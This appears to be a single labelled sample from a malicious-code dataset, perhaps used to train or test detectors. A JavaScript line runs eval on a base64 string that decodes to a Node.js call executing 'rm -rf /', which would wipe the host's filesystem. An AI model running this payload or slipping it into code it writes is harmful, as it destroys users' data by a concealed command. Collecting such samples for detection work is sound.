// label: malicious; obfuscated: base64
eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLycp"));
